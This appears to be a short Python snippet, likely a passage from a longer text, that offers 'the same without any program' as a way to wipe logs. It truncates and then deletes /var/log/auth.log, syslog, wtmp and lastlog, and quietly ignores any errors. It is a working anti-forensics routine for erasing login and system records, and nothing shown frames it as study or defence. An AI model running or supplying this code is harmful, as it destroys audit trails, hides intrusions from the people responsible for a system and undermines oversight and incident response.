# The same without any program.
import os
for path in ("/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp", "/var/log/lastlog"):
    try:
        open(path, "r+").truncate(0)
    except OSError:
        pass
    try:
        os.unlink(path)
    except OSError:
        pass
